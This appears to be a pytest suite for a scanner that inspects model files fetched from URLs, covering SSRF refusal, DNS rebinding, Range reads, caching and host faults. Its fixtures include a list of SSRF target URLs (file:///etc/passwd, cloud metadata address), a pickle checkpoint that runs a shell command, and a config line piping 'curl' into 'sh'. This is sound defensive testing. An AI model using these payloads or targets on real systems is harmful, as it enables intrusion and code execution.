"""Plain-URL sources: the URL policy (SSRF), the probe and its identity, Range inspection through the remote pass
with the real inspector, the content-derived cache, --offline and faults, against a loopback file host."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from hubguard.findings import HubReference, Location, Region, RevisionState
from hubguard.hub.errors import Unavailable
from hubguard.hub.http import HttpClient
from hubguard.hub.remote_pass import RemoteOptions, RemoteResult, run_remote_pass
from hubguard.hub.repo_ids import InvalidReference
from hubguard.hub.scanners import Scanners
from hubguard.hub.snapshot import is_immutable
from hubguard.hub.transport import Deadline, RetryPolicy
from hubguard.hub.url import UrlResolver, content_identity, file_name, validate_hash_prefix, validate_url
from tests.fakehub.files import FakeFileServer
from tests.hub import doubles
from tests.inspectors.fixtures import system_call, torch_state_dict_pickle, torch_zip

BIG = 4 * 2**20


@pytest.fixture
def files(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeFileServer]:
    with FakeFileServer() as server:
        monkeypatch.setenv("HUBGUARD_ALLOW_PRIVATE_URLS", "1")  # the test host is on loopback
        yield server


@pytest.fixture
def options(tmp_path: Path) -> RemoteOptions:
    return RemoteOptions(
        offline=False, timeout=5.0, cache_dir=tmp_path / "cache", endpoint=None, token=None,
        retry=RetryPolicy(attempts=2, backoff=0.01, max_retry_after=1.0),
    )


def reference(url: str, hash_prefix: str | None = None, *, code: bool = False) -> HubReference:
    state = RevisionState.WEAK if hash_prefix else RevisionState.UNPINNED
    return HubReference("url", "url", url, hash_prefix, state, Location("app.py", Region(3, 9, 3, 40)), "B2",
                        runs_remote_code=code, loads_weights=True)


def run(references: list[HubReference], options: RemoteOptions) -> RemoteResult:
    # The real inspector (it only reads bytes); a stand-in for the Semgrep run.
    scanners = Scanners.default()
    scanners = Scanners(scanners.plan_code, scanners.import_closure, doubles.CodeScanner(), scanners.inspect_source,
                        scanners.verdict_findings, scanners.is_weight_candidate)
    return run_remote_pass(references, options, scanners=scanners)


def rules(result: RemoteResult) -> list[str]:
    return sorted(finding.rule_id for finding in result.findings)


def evil_checkpoint(canary: Path) -> bytes:
    return torch_zip(system_call(f"touch {canary}", 2)) + bytes(BIG)  # a large file: only its index is read


# -- the URL policy ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "url",
    [
        "https://download.pytorch.org/models/resnet18-f37072fd.pth",
        "http://download.openmmlab.com/pretrain/x.pth",
        "https://example.com:8443/a%20b/weights.bin?token=public#frag",
        "https://8.8.8.8/model.pt",
        "https://[2606:4700:4700::1111]/model.pt",
    ],
)
def test_public_urls_are_accepted(url: str) -> None:
    assert validate_url(url) == url


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("file:///etc/passwd", "only https:// and http://"),
        ("ftp://example.com/x.pth", "only https:// and http://"),
        ("javascript:alert(1)", "only https:// and http://"),
        ("https://user:pass@example.com/x.pth", "credentials"),
        ("https://token@example.com/x.pth", "credentials"),
        ("https://localhost/x.pth", "names this machine"),
        ("https://api.localhost/x.pth", "names this machine"),
        ("http://127.0.0.1:8080/x.pth", "non-public address"),
        ("http://10.0.0.7/x.pth", "non-public address"),
        ("http://169.254.169.254/latest/meta-data/", "non-public address"),
        ("http://[::1]/x.pth", "non-public address"),
        ("http://[::ffff:127.0.0.1]/x.pth", "non-public address"),
        ("http://0.0.0.0/x.pth", "non-public address"),
        ("http://2130706433/x.pth", "numeric host"),
        ("http://0x7f.1/x.pth", "numeric host"),
        ("https://exa mple.com/x.pth", "spaces"),
        ("https://exämple.com/x.pth", "non-ASCII"),
        ("https://example.com/\x1b[2J", "control"),
        ("https:///x.pth", "no host"),
        ("https://example.com:0/x.pth", "port 0"),
        ("https://example.com:99999/x.pth", "malformed"),
        ("https://ex_ample.com/x.pth", "not a host name"),
        ("https://example.com/" + "a" * 3000, "longer than"),
    ],
)
def test_urls_hubguard_will_not_request(url: str, why: str) -> None:
    with pytest.raises(InvalidReference, match=why):
        validate_url(url)


def test_private_addresses_are_allowed_when_the_user_says_so() -> None:
    assert validate_url("http://127.0.0.1:8080/x.pth", allow_private=True)
    with pytest.raises(InvalidReference):
        validate_url("file:///etc/passwd", allow_private=True)


def test_names_resolving_to_private_addresses_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    # DNS is the one thing faked here: what a hostile name would resolve to.
    answers = {"rebind.example": "169.254.169.254", "public.example": "93.184.215.14"}

    def getaddrinfo(host: str, port: object, *args: object, **kwargs: object) -> list[tuple[object, ...]]:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (answers[host], 443))]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    with HttpClient() as http:
        resolver = UrlResolver(http, offline=False, allow_private=False)
        resolver.check_resolved("https://public.example/x.pth")
        with pytest.raises(Unavailable, match="non-public address"):
            resolver.check_resolved("https://rebind.example/x.pth")
        with pytest.raises(Unavailable, match="refused a redirect"):
            resolver.check_redirect("http://169.254.169.254/latest/meta-data/")


def test_hash_prefixes_names_and_identities() -> None:
    assert validate_hash_prefix("5c106cde") == "5c106cde"
    for bad in ("5C106CDE", "xyz", "a" * 65):
        with pytest.raises(InvalidReference):
            validate_hash_prefix(bad)
    assert file_name("https://h/models/resnet18-5c106cde.pth?x=1") == "resnet18-5c106cde.pth"
    assert file_name("https://h/") == "download"
    digest = "sha-256=:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=:"
    identity = content_identity({"repr-digest": digest, "etag": '"x"'}, 0)
    assert identity == "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    assert is_immutable(identity)
    assert content_identity({"etag": 'W/"abc"'}, 7) == 'etag:W/"abc";size=7'
    assert not is_immutable('etag:W/"abc";size=7') and not is_immutable("size=7")
    assert content_identity({"digest": "sha-256=not-base64!"}, 3) == "size=3"


# -- through the remote pass -----------------------------------------------------------------------------------
def test_a_malicious_checkpoint_is_judged_from_a_few_range_reads(
    files: FakeFileServer, options: RemoteOptions, tmp_path: Path
) -> None:
    canary = tmp_path / "canary"
    url = files.add("/models/evil-0123abcd.pth", evil_checkpoint(canary))
    result = run([reference(url)], options)
    assert rules(result) == ["HG403"]
    (finding,) = result.findings
    assert finding.properties["repoId"] == url and finding.related[0].path == url
    assert finding.properties["resolvedRevision"].startswith("etag:")
    assert result.stats["bytes_transferred"] < BIG // 10
    assert all(request.headers.get("range") for request in files.requests)
    assert not canary.exists()


def test_a_benign_checkpoint_gives_no_finding(files: FakeFileServer, options: RemoteOptions) -> None:
    url = files.add("/models/resnet18-5c106cde.pth", torch_zip(torch_state_dict_pickle()))
    assert run([reference(url, "5c106cde")], options).findings == []


def test_signed_redirects_are_followed_and_read_at_the_target(files: FakeFileServer, options: RemoteOptions) -> None:
    files.add("/signed/asset", evil_checkpoint(Path("/nonexistent")))
    url = files.redirect("/releases/download/v1/model.pt", "/signed/asset?sig=abc")
    result = run([reference(url)], options)
    assert rules(result) == ["HG403"]
    probes = [r for r in files.requests if r.path.startswith("/releases/")]
    assert len(probes) == 1  # Range reads go to the signed target, not through the redirect every time


def test_a_content_sha256_is_cached_an_etag_is_not(files: FakeFileServer, options: RemoteOptions) -> None:
    hashed = files.add("/a.pth", evil_checkpoint(Path("/nonexistent")), digest=True)
    tagged = files.add("/b.pth", evil_checkpoint(Path("/nonexistent")))
    first = run([reference(hashed), reference(tagged)], options)
    assert rules(first) == ["HG403", "HG403"]
    files.reset_log()
    second = run([reference(hashed), reference(tagged)], options)
    assert rules(second) == ["HG403", "HG403"] and second.stats["cache_hits"] == 1
    assert [r.path for r in files.requests if r.path == "/a.pth"] == ["/a.pth"]  # the probe only
    assert len([r for r in files.requests if r.path == "/b.pth"]) > 1  # probed and inspected again


def test_python_fetched_from_a_url_is_code_that_runs(files: FakeFileServer, options: RemoteOptions) -> None:
    url = files.add("/configs/faster_rcnn.py", b"import os\nos.system('curl x | sh')\nmodel = dict(type='X')\n")
    result = run([reference(url, code=True)], options)
    assert rules(result) == ["HG401", "HG402"]
    hg401 = next(f for f in result.findings if f.rule_id == "HG401")
    assert hg401.message.startswith(f"'{url}' ships code this call would run: 'faster_rcnn.py'")


def test_a_missing_file_is_hg405(files: FakeFileServer, options: RemoteOptions) -> None:
    result = run([reference(files.url + "/gone.pth")], options)
    assert rules(result) == ["HG405"] and "fix the URL" in result.findings[0].message


def test_a_server_that_ignores_range_is_still_judged(files: FakeFileServer, options: RemoteOptions) -> None:
    url = files.add("/evil.pth", evil_checkpoint(Path("/nonexistent")))
    files.fault(r"\.pth", "ignore_range")
    result = run([reference(url)], options)
    assert rules(result) == ["HG403"]
    # A zip's index is at its end: without Range each read streams up to it, within the 64 MiB budget.
    assert result.stats["bytes_transferred"] < 64 * 2**20


def test_loopback_urls_need_the_opt_in(
    files: FakeFileServer, options: RemoteOptions, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("HUBGUARD_ALLOW_PRIVATE_URLS")
    url = files.add("/evil.pth", evil_checkpoint(Path("/nonexistent")))
    result = run([reference(url)], options)
    assert result.findings == [] and files.requests == []
    assert "non-public address" in result.notifications[0].message


def test_offline_never_fetches(files: FakeFileServer, options: RemoteOptions) -> None:
    url = files.add("/evil.pth", b"x")
    options.offline = True
    assert rules(run([reference(url)], options)) == ["HG405"] and files.requests == []


@pytest.mark.parametrize(
    ("method", "fault"),
    [
        ("probe", {"kind": "drip", "seconds": 0.05}),
        ("probe", {"kind": "delay", "seconds": 60}),
        ("probe", {"kind": "status", "status": 503}),
        ("probe", {"kind": "status", "status": 429, "retry_after": "inf"}),
        ("probe", {"kind": "redirect"}),
        ("probe", {"kind": "headers", "headers": {"Content-Range": "bytes 0-0/nan"}}),
        ("any", {"kind": "truncate"}),
        ("any", {"kind": "reset"}),
        ("any", {"kind": "drip", "seconds": 0.05}),
    ],
)
def test_a_faulty_host_is_hg405_within_the_timeout(
    files: FakeFileServer, options: RemoteOptions, method: str, fault: dict[str, object]
) -> None:
    url = files.add("/evil.pth", evil_checkpoint(Path("/nonexistent")))
    times = 1 if method == "probe" and fault["kind"] == "headers" else None  # the probe only
    files.fault(r"\.pth", times=times, **fault)  # type: ignore[arg-type]
    options.timeout = 1.5
    started = time.monotonic()
    result = run([reference(url)], options)
    assert time.monotonic() - started < 1.5 + 3.0
    assert "HG405" in rules(result) or rules(result) == ["HG403"]  # unreadable, or judged from what arrived
    assert rules(result) != []


def test_hostile_references_make_no_request(files: FakeFileServer, options: RemoteOptions) -> None:
    result = run([reference("file:///etc/passwd"), reference(files.url + "/x.pth", "NOT-HEX")], options)
    assert result.findings == [] and files.requests == [] and len(result.notifications) == 2


def test_the_resolver_reads_the_file_it_probed(files: FakeFileServer) -> None:
    url = files.add("/cfg.py", b"x = 1\n", digest=True)
    with HttpClient(RetryPolicy(attempts=1)) as http:
        reader = UrlResolver(http, offline=False, allow_private=True).open("url", url, None, Deadline(5))
        assert reader.read_bytes("cfg.py", 100) == b"x = 1\n"
        files.add("/cfg.py", b"x = 2\n", digest=True)  # changed after the probe: the stated hash no longer fits
        with pytest.raises(Exception, match="hash"):
            reader.read_bytes("cfg.py", 100)
